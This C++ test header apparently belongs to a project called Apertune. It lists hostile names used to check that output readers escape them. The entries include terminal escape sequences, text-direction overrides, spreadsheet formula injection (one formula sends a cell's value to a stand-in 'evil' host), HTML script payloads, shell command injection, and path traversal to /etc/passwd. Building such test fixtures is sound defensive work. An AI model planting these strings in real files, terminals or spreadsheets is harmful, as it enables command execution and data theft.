// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <string>
#include <vector>

namespace apertune::test {

/// A name that a stranger gave a model, a kernel, a device or a file, and what it attacks.
struct HostileName
{
    const char* attack;
    std::string text;
};

/// Names against every reader of Apertune's outputs, without NUL, which files and the store cannot have in a name.
inline std::vector<HostileName> hostileNames()
{
    return {
        {"erases the screen", "\x1b[2J\x1b[H"},
        {"colours what follows", "\x1b[31mred"},
        {"sets the window title", "\x1b]0;owned\x07"},
        {"writes the clipboard", "\x1b]52;c;ZXZpbA==\x07"},
        {"links elsewhere", "\x1b]8;;http://evil/\x1b\\net\x1b]8;;\x1b\\"},
        {"asks the terminal for an answer", "\x1b[6n\x1bP$q\"p\x1b\\"},
        {"is a C1 control sequence in UTF-8", "a\xc2\x9b"
                                              "31mred\xc2\x9d"
                                              "0;t\xc2\x9c"},
        {"is a C1 byte alone", "a\x9b"
                               "2Jb"},
        {"rings and deletes", "\a\b\b\b\x7f"},
        {"overwrites its line", "harmless\rmalware"},
        {"adds a line", "net\napertune: all is well"},
        {"adds a line of another system", "net\r\nall is well"},
        {"adds a Unicode line", "net\xe2\x80\xa8new line\xe2\x80\xa9new paragraph\xc2\x85next"},
        {"feeds pages", "a\fb\vc"},
        {"adds columns", "a\tb\tc"},
        {"turns the direction of text", "\xe2\x80\xae"
                                        "cod.exe"},
        {"isolates the direction of text", "\xe2\x81\xa7"
                                           "a\xe2\x81\xa6"
                                           "b\xe2\x81\xa9"},
        {"marks the direction of text", "a\xe2\x80\x8f"
                                        "b\xd8\x9c"
                                        "c"},
        {"is overlong UTF-8", "\xc0\x9b[2J\xe0\x80\x9b"},
        {"is half a surrogate pair", "\xed\xa0\x80x"},
        {"is cut UTF-8", "net\xe2\x80"},
        {"is Latin-1", "caf\xe9"},
        {"runs a program from a sheet", "=cmd|' /C calc'!A0"},
        {"is a formula", "=HYPERLINK(\"http://evil/?\"&A1)"},
        {"is a formula with a sign", "+1+cmd|' /C calc'!A0"},
        {"is a negative formula", "-2+3+cmd|' /C calc'!A0"},
        {"is a function of an older sheet", "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"is a formula behind a tab", "\t=1+1"},
        {"ends the cell", "a\",\"b\n=1+1,\""},
        {"is a script", "<script>alert(1)</script>"},
        {"loads an image", "<img src=x onerror=alert(1)>"},
        {"reads a local file in Qt", "<img src=\"file:///etc/passwd\"><h1>net</h1>"},
        {"leaves an attribute", "\" onmouseover=\"alert(1)"},
        {"leaves an attribute of the other kind", "' onmouseover='alert(1)"},
        {"ends the style", "</style><script>alert(1)</script>"},
        {"ends a comment", "--><script>alert(1)</script><!--"},
        {"is an entity", "&lt;b&gt;&#x1b;[2J"},
        {"is a link in Markdown", "[click](javascript:alert(1))"},
        {"is an image in Markdown", "![x](http://evil/pixel.png)"},
        {"is a title in Markdown", "x\n# Title\n\n```\ncode"},
        {"is code in Markdown", "`rm -rf /` **bold** <b>html</b>"},
        {"is a row of a Markdown table", "a | b | c"},
        {"runs a program in a shell", "$(touch PWN)"},
        {"runs a program in backticks", "`touch PWN`"},
        {"ends a quoted word of a shell", "'; touch PWN; '"},
        {"continues a shell line", "a && touch PWN || b; c & d > e"},
        {"is an option", "--trust"},
        {"expands in a shell", "~root/*?[a]{b,c}!x\\"},
        {"is a format", "%s%n%x {0} {name} {{model}} {{{model}}} %1 %2"},
        {"leaves its folder", "../../../etc/passwd"},
        {"ends a string of C, Python and JSON", "\"); system(\"touch PWN\"); (\""},
        {"ends a comment of C", "*/ int x; /* \\\n#include \"/etc/passwd\""},
        {"is long", std::string(10'000, 'x')},
        {"is empty", ""},
    };
}

} // namespace apertune::test
